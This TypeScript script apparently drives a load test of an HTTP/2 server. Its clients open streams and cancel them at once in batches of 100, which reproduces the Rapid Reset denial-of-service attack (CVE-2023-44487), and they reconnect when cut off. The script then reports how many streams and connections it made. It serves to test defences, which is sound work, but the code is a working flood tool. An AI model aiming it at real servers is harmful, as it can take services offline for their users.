// HTTP/2 clients that open streams and reset them at once (CVE-2023-44487), and connect again when the server ends them. Prints what they
// did.
import { constants } from 'node:http2'
import { setImmediate as tick } from 'node:timers/promises'
import { block, END_HEADERS, END_STREAM, FRAME, FrameClient, frame } from '../../src/testing/h2-wire.ts'

const { port, connections, streams } = JSON.parse(process.argv[2] ?? '{}') as {
  port: number
  connections: number
  streams: number
}
const AT_ONCE = 100
const CANCEL = Buffer.from([0, 0, 0, constants.NGHTTP2_CANCEL])
const HEAD = block([
  [':method', 'GET'],
  [':path', '/hung'],
  [':scheme', 'http'],
  [':authority', 'a'],
])
let begun = 0
let connects = 0

async function client(): Promise<void> {
  for (let left = streams; left > 0; ) {
    const one = new FrameClient(port)
    connects++
    for (let stream = 1; left > 0 && !one.closed && one.socket.writable; left -= AT_ONCE) {
      const frames: Buffer[] = []
      for (let more = 0; more < AT_ONCE; more++, stream += 2)
        frames.push(frame(FRAME.headers, END_HEADERS | END_STREAM, stream, HEAD), frame(FRAME.reset, 0, stream, CANCEL))
      begun += AT_ONCE
      one.socket.write(Buffer.concat(frames))
      await tick()
    }
    one[Symbol.dispose]()
  }
}

await Promise.all(Array.from({ length: connections }, client))
process.stdout.write(JSON.stringify({ begun, connects }))
